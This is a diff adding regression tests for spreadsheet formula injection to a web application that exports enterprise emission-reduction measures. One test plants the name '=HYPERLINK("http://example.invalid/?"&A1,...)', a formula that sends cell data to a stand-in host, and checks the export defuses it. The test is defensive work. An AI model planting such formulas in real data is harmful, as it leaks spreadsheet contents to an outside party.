@@ -113,3 +113,41 @@ def test_enterprise_sees_only_its_own_sheet_and_county_only_its_enterprises(clie
                 reverse("emergency:dashboard"), reverse("emergency:notices"), reverse("sources:inventory"),
                 reverse("emergency:optimise", args=[draft.pk, "orange"])):
         assert client.get(url).status_code == 200, url
+
+
+def _formula_cells(xlsx: bytes) -> list[str]:
+    """The formulas (``<f>`` elements) and inline-typed cells of every sheet of a workbook."""
+    import io
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
+                for f in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())]
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, world, plants, draft, standard):
+    """Formula injection: an organisation named ``=HYPERLINK(...)`` through the API became a live formula
+    in the city's list export; every spreadsheet now goes through one writer that keeps text as text."""
+    import io
+
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
+    client.force_login(world.people["city_office"])
+    organisation = world.organisations["e1"]
+    api = client.patch(f"/api/organisations/{organisation.pk}/", {"name": attack}, content_type="application/json")
+    assert api.status_code == 200
+    Measure.objects.create(version=draft, level="orange", kind="stop", enterprise=plants["e1"].enterprise)
+    response = client.get(reverse("emergency:export", args=[draft.pk]))
+    assert response.status_code == 200 and _formula_cells(response.content) == []
+    cells = pl.read_excel(io.BytesIO(response.content), sheet_name="减排措施", engine="calamine")
+    assert attack in cells.to_series(0).to_list() or attack in {v for c in cells.columns for v in cells[c].to_list()}
+
+
+def test_the_csv_writer_defuses_formulas(tmp_path):
+    from gongjian.site.exports import write_table
+
+    path = tmp_path / "out.csv"
+    write_table(pl.DataFrame({"name": ["=1+1", "+A1", "-2", "@SUM(A1)", "甲公司"], "value": [-1.5, 2.0, 3.0, 4.0, 5.0]}),
+                path)
+    text = path.read_text(encoding="utf-8").splitlines()
+    assert text[1:] == ["'=1+1,-1.5", "'+A1,2.0", "'-2,3.0", "'@SUM(A1),4.0", "甲公司,5.0"]
